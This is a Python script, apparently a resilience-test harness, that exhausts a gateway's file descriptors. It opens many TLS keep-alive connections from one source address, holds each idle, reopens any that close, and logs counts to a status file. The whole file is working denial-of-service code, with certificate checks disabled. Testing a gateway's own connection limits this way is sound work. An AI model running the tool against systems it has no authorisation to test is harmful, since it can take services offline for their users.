#!/usr/bin/env python3
"""idle_flood.py: descriptor exhaustion from one source address
(docs/0028): keep-alive connections that send one request and then stay
idle, reopened as soon as the gateway closes one, until killed.

  idle_flood.py HOST PORT SRC N STATUS

N workers, each a TLS connection from SRC asking GET /healthz with
keep-alive, then holding the connection open and idle.  STATUS is rewritten
about every 0.2 s with one line of JSON: connections tried, answered,
held now, and the most held at once.
"""
import asyncio
import json
import os
import ssl
import sys

counts = {"tried": 0, "answered": 0, "held": 0, "most_held": 0}


async def worker(host, port, src, ctx):
    req = f"GET /healthz HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode()
    while True:
        counts["tried"] += 1
        w = None
        try:
            r, w = await asyncio.wait_for(asyncio.open_connection(
                host, port, ssl=ctx, local_addr=(src, 0)), 10)
            w.write(req)
            head = await asyncio.wait_for(r.readuntil(b"\r\n\r\n"), 10)
            counts["answered"] += 1
            counts["held"] += 1
            counts["most_held"] = max(counts["most_held"], counts["held"])
            try:
                rest = head.lower().split(b"content-length:")[1]
                await r.readexactly(int(rest.split(b"\r\n")[0]))
                while await r.read(4096):      # idle until closed
                    pass
            finally:
                counts["held"] -= 1
        except (OSError, asyncio.TimeoutError, ssl.SSLError, IndexError,
                ValueError, asyncio.IncompleteReadError,
                asyncio.LimitOverrunError):
            await asyncio.sleep(0.05)
        if w is not None:
            w.close()


async def report(path):
    while True:
        tmp = path + ".tmp"
        with open(tmp, "w") as f:
            f.write(json.dumps(counts) + "\n")
        os.replace(tmp, path)
        await asyncio.sleep(0.2)


async def main():
    host, port, src, n, status = sys.argv[1:6]
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    tasks = [asyncio.ensure_future(report(status))]
    for _ in range(int(n)):
        tasks.append(asyncio.ensure_future(worker(host, int(port), src, ctx)))
        await asyncio.sleep(0.002)
    await asyncio.gather(*tasks)


if __name__ == "__main__":
    asyncio.run(main())
